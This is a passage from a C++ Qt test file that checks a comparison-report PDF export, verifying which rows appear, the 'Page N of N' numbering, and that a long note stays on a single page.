        const QString pdf = fromStd((m_folder->path() / "Comparison.pdf").string());
        m_dialogs.answerFiles(vantrel::FileChoice::ComparisonPdf, {pdf});
        compare->findChild<QPushButton*>("cmdSavePdf")->click();
        QVERIFY(MessageBox::history().isEmpty());
        const auto [pages, body] = pdfText(pdf);
        QVERIFY(pages >= 1);
        for (const char* expected : {"Setup Comparison", "Front", "Long, hole 2", "Short, hole 3", "Åsa Lind"})
            QVERIFY2(body.contains(QString::fromUtf8(expected)), expected);
        QVERIFY2(!body.contains("Long, hole 3"), "a row that does not differ is left out");
        QVERIFY(body.contains(QString("Page %1 of %1").arg(pages)));

        // All rows: more pages, each numbered.
        compare->setOnlyDifferences(false);
        compare->writePdf(pdf);
        const auto [allPages, all] = pdfText(pdf);
        QVERIFY(allPages >= pages);
        QVERIFY(all.contains("Long, hole 3") && all.contains(QString("Page %1 of %1").arg(allPages)));
        // The long note is on one page, first words to last.
        int notePages = 0;
        for (int page = 1; page <= allPages; ++page) {
            const auto text = testsupport::pdfText(pdf, {"-f", QString::number(page), "-l", QString::number(page)});
            QVERIFY2(text.error.isEmpty(), qPrintable(text.error));
            const QString onPage = text.text.simplified();
            if (!onPage.contains("Long note:")) continue;
            ++notePages;
            QVERIFY2(onPage.contains("the very last words here"), qPrintable(onPage));
        }
        QCOMPARE(notePages, 1);
    }
};

QObject* createLibraryWindowTest() { return new LibraryWindowTest; }

#include "LibraryWindowTest.moc"
